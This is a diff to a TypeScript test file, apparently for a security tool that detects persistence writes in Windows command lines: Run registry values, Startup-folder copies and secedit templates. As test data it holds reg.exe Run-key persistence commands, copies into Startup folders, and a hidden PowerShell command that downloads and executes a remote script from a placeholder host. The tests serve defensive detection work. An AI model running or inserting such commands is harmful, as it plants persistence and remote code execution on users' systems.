@@ -74,6 +74,35 @@ describe('repeated inputs in the per-event stage', () => {
     expect(commandLineWrites('notepad.exe C:\\run\\notes.txt')).toEqual([]);
   });
 
+  it('reads each of many lines alike in length and sampled characters right, however they alternate', () => {
+    // a service's starts that differ only in numbers (SearchProtocolHost's pipes) share the
+    // cache's slot pairs; every other one here writes a Run value named for its number
+    const line = (i: number) => {
+      const n = String(i).padStart(3, '0');
+      return i % 2
+        ? `"C:\\Windows\\system32\\reg.exe" add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Pipe${n} /d C:\\Users\\Public\\p${n}.exe /f`
+        : `"C:\\Windows\\system32\\reg.exe" query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v Pipe${n} /d C:\\Users\\Public\\p${n}.exe /f`;
+    };
+    for (let round = 0; round < 3; round++) {
+      for (let i = 0; i < 600; i++) {
+        // a fresh string object each time, as a reader that does not share equal values gives
+        const w = commandLineWrites([line(i).slice(0, 7), line(i).slice(7)].join(''));
+        if (i % 2) {
+          expect(w.map((x) => [x.kind, x.valueName, x.data])).toEqual([['registry', `Pipe${String(i).padStart(3, '0')}`, `C:\\Users\\Public\\p${String(i).padStart(3, '0')}.exe`]]);
+        } else {
+          expect(w).toEqual([]);
+        }
+      }
+    }
+  });
+
+  it('sees a Startup folder named in any case, and secedit in any case', () => {
+    const copy = commandLineWrites('cmd /c copy C:\\Users\\Public\\x.lnk "C:\\Users\\bob\\AppData\\Roaming\\Microsoft\\Windows\\START MENU\\Programs\\StartUp\\x.lnk"');
+    expect(copy.map((x) => x.kind)).toEqual(['startup-file']);
+    expect(commandLineWrites('powershell Copy-Item C:\\Users\\Public\\y.vbs Shell:Common Startup').map((x) => x.kind)).toEqual(['startup-file']);
+    expect(commandLineWrites('cmd /c SecEdit /Configure /db C:\\Windows\\Temp\\x.sdb /cfg C:\\Windows\\Temp\\run.inf').map((x) => [x.kind, x.data])).toEqual([['security-template', 'C:\\Windows\\Temp\\run.inf']]);
+  });
+
   it('explains the same write on two hosts alike, each candidate owning its reasons', () => {
     const target = 'HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\Updater';
     const data = 'powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://x/a\')"';
